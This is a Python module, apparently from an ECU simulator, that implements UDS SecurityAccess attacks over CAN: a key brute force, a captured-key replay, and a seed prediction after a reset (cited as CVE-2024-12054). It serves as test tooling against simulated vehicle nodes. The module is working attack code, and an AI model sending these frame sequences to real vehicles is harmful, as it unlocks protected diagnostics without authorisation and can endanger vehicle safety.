"""The attacks on SecurityAccess: a brute force of the key, a captured key sent again, and the key
of the seed a reset makes predictable (CVE-2024-12054).

Each is a tester that answers what the target said at the tick it heard it, so in ``simulate``
it asks, hears and asks again at the same ticks on every run. A request goes out only when the
answer to the one before came (or ``retry`` seconds passed without one: the session may have
fallen back to the default), so an attack never floods the server it is guessing against.

A key replay needs a captured exchange, and ecu-sim's nodes have no tester of their own, so the
attack stages the workshop tool it overhears, from the address ``tool``: that tool knows the
node's key algorithm (the documented default, docs/diagnostics.md), unlocks, and leaves the
session; the attacker, from ``source``, then asks for a seed and sends the tool's key. The
tool's frames are the attack's, and labelled so.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Final

import can

from ecu_sim.attack import udslink
from ecu_sim.attack.family import ADDRESS, ATTACKS, NOT_NEGATIVE, SOURCE_DIAG, Context, whole
from ecu_sim.attack.tick import Frames
from ecu_sim.registry.family import ParamError, param
from ecu_sim.runtime.ticks import ticks_in
from ecu_sim.uds.security import LEVEL, SEED_BYTES, default_key

_EXTENDED: Final = (0x10, 0x03)
_SEED: Final = (0x27, 0x01)
_KEEP: Final = (0x3E, 0x80)  # TesterPresent, no answer wanted: the session stays
_SESSION_LOST: Final = frozenset({0x7E, 0x7F})
_REFUSED_FOR_NOW: Final = frozenset({0x36, 0x37})
#: the workshop tool a key replay stages (another address than the attacker's)
SOURCE_TOOL = "0xfa"
#: how often an unlocked attacker says it is still there (below the server's S3 of 5 s)
KEEP_S: Final = 2.0


@dataclass
class Tester:
    """One tester's requests to one target: what goes at this tick, what is due later."""

    target: int
    me: int
    retry: int
    out: list[can.Message] = field(default_factory=list)
    #: (tick, request) sent when the tick comes
    later: list[tuple[int, tuple[int, ...]]] = field(default_factory=list)
    asked_at: int | None = None

    def ask(self, n: int, *payload: int) -> None:
        self.out.append(udslink.request(self.target, self.me, *payload))
        self.asked_at = n

    def ask_at(self, n: int, *payload: int) -> None:
        self.later.append((n, payload))
        self.asked_at = None

    def take(self, n: int) -> list[can.Message]:
        """This tick's frames: those asked for, those due, a session asked again when an answer
        did not come within ``retry`` ticks."""
        due = [payload for at, payload in self.later if at <= n]
        self.later = [(at, payload) for at, payload in self.later if at > n]
        for payload in due:
            self.ask(n, *payload)
        if self.asked_at is not None and n - self.asked_at >= self.retry and not self.out:
            self.ask(n, *_EXTENDED)
        out, self.out = self.out, []
        return out


def _check_retry(retry: float) -> None:
    if retry <= 0:
        raise ParamError("retry must be above 0 s")


@dataclass(frozen=True)
class BruteForce:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    first: int = param(whole(0, 0xFFFFFFFF), "0")
    retry: float = param(NOT_NEGATIVE, "1")

    def __post_init__(self) -> None:
        _check_retry(self.retry)


@ATTACKS.register("bruteforce", BruteForce, "seed/key brute force on SecurityAccess: the extended session, "
                  "then a seed and a guessed key (FIRST, FIRST+1, ...) until one unlocks; refused for a "
                  "delay, the seed asked again every RETRY s")
def brute_force(p: BruteForce, at: Context) -> Frames:
    """Guesses the four-byte key as a counter from ``first``, one guess a seed; once unlocked,
    keeps the session with TesterPresent."""
    me = Tester(p.target, p.source, max(1, ticks_in(p.retry, at.period_s)))
    keep = max(1, ticks_in(KEEP_S, at.period_s))
    guess = p.first
    unlocked_at: int | None = None

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        nonlocal guess, unlocked_at
        if n == 0:
            me.ask(n, *_EXTENDED)
        for answer in udslink.answers(heard, p.target, p.source):
            if answer[:2] == b"\x67\x01" and answer[2:] != bytes(SEED_BYTES):
                me.ask(n, 0x27, 0x02, *(guess & 0xFFFFFFFF).to_bytes(SEED_BYTES, "big"))
                guess += 1
            elif answer[:2] in (b"\x67\x02", b"\x67\x01"):
                unlocked_at, me.asked_at = n, None
            else:
                _go_on(me, n, answer)
        if unlocked_at is not None and (n - unlocked_at) % keep == keep - 1:
            me.ask(n, *_KEEP)
            me.asked_at = None
        return me.take(n)
    return frames


def _go_on(me: Tester, n: int, answer: bytes) -> None:
    """The next request after an answer that is no seed and no unlock."""
    if answer[:1] == b"\x50":
        me.ask(n, *_SEED)
    elif answer[:1] == bytes((udslink.NEGATIVE,)) and len(answer) >= 3:
        if answer[2] in _SESSION_LOST:
            me.ask(n, *_EXTENDED)
        elif answer[1] == 0x27 and answer[2] not in _REFUSED_FOR_NOW:
            me.ask(n, *_SEED)  # invalid key, or a key without a seed: a new seed
        else:
            me.ask_at(n + me.retry, *(_SEED if answer[1] == 0x27 else _EXTENDED))


@dataclass(frozen=True)
class KeyReplay:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    tool: int = param(ADDRESS, SOURCE_TOOL)
    after: float = param(NOT_NEGATIVE, "1")
    retry: float = param(NOT_NEGATIVE, "1")

    def __post_init__(self) -> None:
        _check_retry(self.retry)
        if self.tool == self.source or self.target in (self.tool, self.source):
            raise ParamError("target, source and tool must be three addresses")


@ATTACKS.register("keyreplay", KeyReplay, "key replay: a workshop tool at TOOL unlocks the target and leaves "
                  "the session; AFTER s later the attacker asks for a seed and sends the tool's key")
def key_replay(p: KeyReplay, at: Context) -> Frames:
    """Works where the seed repeats (``static-seed``); refused (0x35) by the default node."""
    return _replay(p, at, reset=False)


@ATTACKS.register("seedpredict", KeyReplay, "seed prediction after a reset: the workshop tool's exchange "
                  "right after an ECUReset; AFTER s later the attacker resets the target and sends the "
                  "tool's key for the seed it expects")
def seed_predict(p: KeyReplay, at: Context) -> Frames:
    """Works where a reset restarts the seeds (``reset-seed``, CVE-2024-12054); refused (0x35)
    by the default node, whose seeds never repeat."""
    return _replay(p, at, reset=True)


def _replay(p: KeyReplay, at: Context, reset: bool) -> Frames:
    retry = max(1, ticks_in(p.retry, at.period_s))
    tool, attacker = Tester(p.target, p.tool, retry), Tester(p.target, p.source, retry)
    start = _start(reset)
    replay_at = max(1, ticks_in(p.after, at.period_s))
    captured: list[bytes] = []

    def tool_answer(n: int, answer: bytes) -> None:
        if answer[:2] == b"\x67\x01" and answer[2:] != bytes(SEED_BYTES):
            tool.ask(n, 0x27, 0x02, *default_key(answer[2:], LEVEL))
            captured.append(default_key(answer[2:], LEVEL))
        elif answer[:2] == b"\x67\x02":
            tool.ask(n, 0x10, 0x01)  # done: back to the default session, which locks
        elif answer[:1] != b"\x50" or answer[1:2] == b"\x03":
            start(tool, n, answer)

    def attacker_answer(n: int, answer: bytes) -> None:
        if answer[:2] == b"\x67\x01" and answer[2:] != bytes(SEED_BYTES) and captured:
            attacker.ask(n, 0x27, 0x02, *captured[-1])
        elif answer[:2] in (b"\x67\x02", b"\x7f\x27"):
            attacker.asked_at = None  # unlocked, or refused: the replay is over
        else:
            start(attacker, n, answer)

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        if n == 0:
            start(tool, n, b"")
        if n == replay_at:
            start(attacker, n, b"")
        for answer in udslink.answers(heard, p.target, p.tool):
            tool_answer(n, answer)
        for answer in udslink.answers(heard, p.target, p.source):
            attacker_answer(n, answer)
        return [*tool.take(n), *attacker.take(n)]
    return frames


def _start(reset: bool) -> Callable[[Tester, int, bytes], None]:
    """The steps to a seed: (an ECUReset, then two ticks for it to take place,) the extended
    session, a seed; ``answer`` empty: the first step."""
    def step(me: Tester, n: int, answer: bytes) -> None:
        if not answer:
            me.ask(n, *((0x11, 0x01) if reset else _EXTENDED))
        elif answer[:1] == b"\x51":
            me.ask_at(n + 2, *_EXTENDED)
        elif answer[:1] == b"\x50":
            me.ask(n, *_SEED)
        else:
            _go_on(me, n, answer)
    return step
